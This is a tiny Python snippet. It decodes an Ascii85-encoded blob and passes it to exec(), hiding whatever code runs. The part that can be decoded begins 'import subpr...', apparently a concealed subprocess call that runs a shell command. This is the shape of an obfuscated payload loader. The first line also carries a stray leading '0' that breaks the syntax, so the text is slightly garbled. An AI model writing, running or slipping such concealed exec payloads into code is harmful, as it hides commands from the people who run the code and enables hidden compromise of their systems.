0import base64
exec(base64.a85decode(b'Bl.g-Ec`FFF^f<1De!@"F$"Gc@W6@+@qB_&/n8=+Ca^Z@F`M:@BQS?83\\N.206qqdBI>?PBOu!r4]HHEALR'))
